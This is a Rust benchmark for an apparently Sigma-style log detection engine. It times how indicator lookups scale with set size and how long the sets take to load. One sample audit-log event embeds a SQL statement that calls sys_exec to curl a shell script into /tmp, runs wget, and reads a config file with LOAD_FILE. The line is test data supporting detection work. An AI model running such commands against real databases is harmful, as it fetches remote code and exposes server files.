//! What looking for indicators costs by their number: the same events against sets of a thousand to
//! a million, and loading these sets.
//!
//! The events hold nothing that is listed, as nearly all do. What they cost must not grow with the
//! set, but for the caches that a larger table no longer fits.

mod common;

use common::listed;
use criterion::{BenchmarkId, Criterion, Throughput, criterion_group, criterion_main};
use sigmatag::compile::{self, Options};
use sigmatag::engine::{Engine, Event, Format, Options as EngineOptions, Scratch};
use sigmatag::rule::ast::Collection;
use sigmatag::rule::descriptor::built_in;
use sigmatag::ruleset::RuleSet;
use std::hint::black_box;
use std::sync::Arc;
use std::time::Duration;

const SIZES: [u32; 4] = [1_000, 10_000, 100_000, 1_000_000];

fn compiled(size: Option<u32>) -> Vec<u8> {
    let indicators = size.map(listed::set);
    let options = Options { sources: built_in(), indicators, ..Options::default() };
    compile::compile(&Collection::default(), &options).expect("a rule set").bytes
}

/// Events with little and much to look up.
fn events() -> [(&'static str, String); 3] {
    let azure = |properties: &str| {
        format!(
            r#"{{"category":"MySqlAuditLogs","resourceId":"/SUBSCRIPTIONS/1/RESOURCEGROUPS/g/PROVIDERS/MICROSOFT.DBFORMYSQL/SERVERS/s","properties":{{{properties}}}}}"#
        )
    };
    [
        (
            "connection",
            azure(
                r#""event_class":"connection_log","event_subclass":"CONNECT","connection_id":7,"ip":"203.0.113.9","user":"app","db":"shop""#,
            ),
        ),
        (
            "statement",
            azure(
                r#""event_class":"general_log","event_subclass":"LOG","user":"app[app] @  [203.0.113.9]","ip":"203.0.113.9","sql_text":"SELECT o.id, o.total, c.email FROM orders o JOIN customers c ON c.id = o.customer_id WHERE c.email = 'ann@shop.example' AND o.created > '2026-11-27 10:00:00' ORDER BY o.created DESC LIMIT 50""#,
            ),
        ),
        (
            "names",
            azure(
                r#""event_class":"general_log","event_subclass":"LOG","user":"app[app] @  [203.0.113.9]","ip":"203.0.113.9","sql_text":"SELECT sys_exec('curl -s http://cdn.shop.example/a/b.sh -o /tmp/b.sh; wget https://www.other.example/c.tar.gz'), LOAD_FILE('/etc/app/shop.conf'), '2001:db8::9', '198.51.100.20'""#,
            ),
        ),
    ]
}

fn indicators(criterion: &mut Criterion) {
    let mut sets = vec![("none".to_owned(), compiled(None))];
    sets.extend(SIZES.map(|size| (size.to_string(), compiled(Some(size)))));
    for (name, event) in events() {
        let mut group = criterion.benchmark_group(format!("indicators/{name}"));
        group.warm_up_time(Duration::from_millis(500)).measurement_time(Duration::from_secs(2));
        group.throughput(Throughput::Bytes(event.len() as u64));
        for (size, bytes) in &sets {
            let rules = RuleSet::from_bytes(bytes).expect("it loads");
            let engine = Engine::new(Arc::new(rules), EngineOptions::default());
            let mut scratch = Scratch::new(&engine);
            let event = Event::new(Format::Json, event.as_bytes());
            group.bench_function(BenchmarkId::from_parameter(size), |bencher| {
                bencher.iter(|| scratch.match_event(&engine, black_box(&event)).expect("an event"));
            });
            assert_eq!(scratch.hits(), []);
        }
    }
    let mut group = criterion.benchmark_group("indicators/load");
    group.sample_size(10).warm_up_time(Duration::from_millis(200));
    for (size, bytes) in &sets {
        group.throughput(Throughput::Bytes(bytes.len() as u64));
        group.bench_function(BenchmarkId::from_parameter(size), |bencher| {
            bencher.iter(|| RuleSet::from_bytes(black_box(bytes)).expect("it loads"));
        });
    }
}

criterion_group!(benches, indicators);
criterion_main!(benches);
